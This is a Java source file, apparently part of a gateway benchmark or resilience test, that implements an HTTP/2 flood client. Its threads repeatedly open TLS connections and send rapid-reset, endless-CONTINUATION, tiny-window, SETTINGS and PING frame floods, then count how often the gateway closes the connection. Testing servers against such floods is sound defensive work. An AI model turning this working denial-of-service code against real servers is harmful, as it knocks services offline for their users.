package nl.schuilnaam.examples.benchmark;

import static nl.schuilnaam.examples.benchmark.Http2Frames.CONTINUATION;
import static nl.schuilnaam.examples.benchmark.Http2Frames.END_HEADERS;
import static nl.schuilnaam.examples.benchmark.Http2Frames.END_STREAM;
import static nl.schuilnaam.examples.benchmark.Http2Frames.HEADERS;
import static nl.schuilnaam.examples.benchmark.Http2Frames.PING;
import static nl.schuilnaam.examples.benchmark.Http2Frames.RST_STREAM;
import static nl.schuilnaam.examples.benchmark.Http2Frames.SETTINGS;
import static nl.schuilnaam.examples.benchmark.Http2Frames.WINDOW_UPDATE;
import static nl.schuilnaam.examples.benchmark.Http2Frames.frame;
import static nl.schuilnaam.examples.benchmark.Http2Frames.number;
import static nl.schuilnaam.examples.benchmark.Http2Frames.repeated;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpRequest;
import java.util.ArrayList;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.atomic.AtomicLong;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLParameters;
import javax.net.ssl.SSLSocket;

/**
 * Clients that work the edge's HTTP/2 instead of asking it (RFC 9113 section 10.5), of every kind as many. Each opens a connection over TLS, sends frames as fast as they are taken
 * until the gateway closes it, and after a pause begins anew. They read nothing but the beginning, so that attacking costs this machine as little as it can.
 */
final class Http2Flood implements AutoCloseable {
    /**
     * Between two connections of one client, on average; half as long or half as long again, or all of them would shake hands at the same instant. Without it, this machine would be
     * busy with its own attackers' handshakes, and with little else.
     */
    static final long PAUSE_MILLIS = 1_000;

    private static final int TIMEOUT_MILLIS = 10_000;

    /** What is sent. */
    enum Kind {
        /** Requests that are given up at once. */
        RAPID_RESET("rapid reset") {
            @Override
            byte[] more(byte[] head, int turn) {
                var all = new ByteArrayOutputStream();
                for (int i = 0; i < RESETS; i++) {
                    int stream = 2 * (RESETS * turn + i) + 1;
                    all.writeBytes(frame(HEADERS, END_HEADERS | END_STREAM, stream, head));
                    all.writeBytes(frame(RST_STREAM, 0, stream, number(CANCEL)));
                }
                return all.toByteArray();
            }
        },
        /** A head without end, an octet in each frame. */
        CONTINUATIONS("CONTINUATION") {
            @Override
            byte[] first(byte[] head) {
                return frame(HEADERS, END_STREAM, 1);
            }

            @Override
            byte[] more(byte[] head, int turn) {
                return OF_A_HEAD;
            }
        },
        /** As many requests as may be under way, for whose answers there is room by the octet. */
        TINY_WINDOWS("tiny windows") {
            @Override
            byte[] settings() {
                // SETTINGS_INITIAL_WINDOW_SIZE: 1
                return new byte[] {0, 4, 0, 0, 0, 1};
            }

            @Override
            byte[] first(byte[] head) {
                var all = new ByteArrayOutputStream();
                for (int i = 0; i < STREAMS; i++) {
                    all.writeBytes(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, head));
                }
                return all.toByteArray();
            }

            @Override
            byte[] more(byte[] head, int turn) {
                return WINDOWS;
            }
        },
        SETTINGS_FRAMES("SETTINGS") {
            @Override
            byte[] more(byte[] head, int turn) {
                return OF_SETTINGS;
            }
        },
        PINGS("PING") {
            @Override
            byte[] more(byte[] head, int turn) {
                return OF_PINGS;
            }
        };

        private static final int STREAMS = 100;
        private static final int RESETS = 32;
        private static final int CANCEL = 8;
        private static final int AT_ONCE = 1_000;
        private static final byte[] OF_A_HEAD = repeated(frame(CONTINUATION, 0, 1, (byte) 0), AT_ONCE);
        private static final byte[] WINDOWS = repeated(frame(WINDOW_UPDATE, 0, 1, number(1)), AT_ONCE);
        private static final byte[] OF_SETTINGS = repeated(frame(SETTINGS, 0, 0), AT_ONCE);
        private static final byte[] OF_PINGS = repeated(frame(PING, 0, 0, new byte[8]), AT_ONCE);

        private final String title;

        Kind(String title) {
            this.title = title;
        }

        String title() {
            return title;
        }

        /** The payload of the settings with which it begins. */
        byte[] settings() {
            return new byte[0];
        }

        /** What comes after these, once. */
        byte[] first(byte[] head) {
            return new byte[0];
        }

        /** What comes after that, turn after turn. */
        abstract byte[] more(byte[] head, int turn);
    }

    private final URI edge;
    private final SSLContext trust;
    private final byte[] head;
    private final Map<Kind, AtomicLong> closed = new EnumMap<>(Kind.class);
    private final Set<Socket> open = ConcurrentHashMap.newKeySet();
    private final List<Thread> threads = new ArrayList<>();
    private volatile boolean ended;

    /**
     * Begins at once.
     *
     * @param asked a {@code GET} with an access token, for the kinds that ask for something
     * @param trust of their own, so that they resume no session of anybody else
     * @param clients of each kind; each has a thread, which mostly waits
     */
    Http2Flood(HttpRequest asked, SSLContext trust, int clients) {
        this.edge = asked.uri();
        this.trust = trust;
        this.head = Http2Frames.block(
                ":method",
                "GET",
                ":scheme",
                "https",
                ":authority",
                edge.getRawAuthority(),
                ":path",
                edge.getRawPath() + "?" + edge.getRawQuery(),
                "authorization",
                asked.headers().firstValue("Authorization").orElseThrow());
        for (Kind kind : Kind.values()) {
            closed.put(kind, new AtomicLong());
        }
        for (Kind kind : Kind.values()) {
            for (int i = 0; i < clients; i++) {
                var thread = new Thread(() -> run(kind), "http2-flood");
                thread.setDaemon(true);
                thread.start();
                threads.add(thread);
            }
        }
    }

    /** How many connections of a kind the gateway has closed while it was sent to. */
    long closed(Kind kind) {
        return counter(kind).get();
    }

    @Override
    public void close() {
        ended = true;
        threads.forEach(Thread::interrupt);
        try {
            for (Thread thread : threads) {
                while (thread.isAlive()) {
                    // One that writes to somebody who reads no more writes for ever.
                    open.forEach(Http2Flood::end);
                    thread.join(100);
                }
            }
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private AtomicLong counter(Kind kind) {
        AtomicLong counter = closed.get(kind);
        if (counter == null) {
            throw new IllegalStateException("every kind has a counter");
        }
        return counter;
    }

    private void run(Kind kind) {
        try {
            while (!ended) {
                Thread.sleep(ThreadLocalRandom.current().nextLong(PAUSE_MILLIS / 2, PAUSE_MILLIS * 3 / 2));
                attack(kind);
            }
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private void attack(Kind kind) {
        // Of the two, only the socket below TLS is closed: no goodbye is owed.
        try (Socket socket = new Socket(edge.getHost(), edge.getPort())) {
            open.add(socket);
            OutputStream out = begun(socket, kind);
            try {
                out.write(kind.first(head));
                for (int turn = 0; !ended; turn++) {
                    out.write(kind.more(head, turn));
                }
            } catch (IOException e) {
                if (!ended) {
                    counter(kind).incrementAndGet();
                }
            } finally {
                open.remove(socket);
            }
        } catch (IOException e) {
            // Not let in, which is not what is counted.
        }
    }

    /** A connection on which the gateway has begun to speak HTTP/2. */
    private OutputStream begun(Socket socket, Kind kind) throws IOException {
        socket.setSoTimeout(TIMEOUT_MILLIS);
        socket.setTcpNoDelay(true);
        var secured = (SSLSocket) trust.getSocketFactory().createSocket(socket, edge.getHost(), edge.getPort(), false);
        SSLParameters parameters = secured.getSSLParameters();
        parameters.setApplicationProtocols(new String[] {"h2"});
        secured.setSSLParameters(parameters);
        secured.startHandshake();
        OutputStream out = secured.getOutputStream();
        out.write(Http2Frames.preface());
        out.write(frame(SETTINGS, 0, 0, kind.settings()));
        byte[] answer = secured.getInputStream().readNBytes(Http2Frames.HEAD_BYTES);
        if (answer.length < Http2Frames.HEAD_BYTES || answer[3] != SETTINGS) {
            throw new IOException("no HTTP/2");
        }
        return out;
    }

    private static void end(Socket socket) {
        try {
            socket.close();
        } catch (IOException e) {
            // It is gone all the same.
        }
    }
}
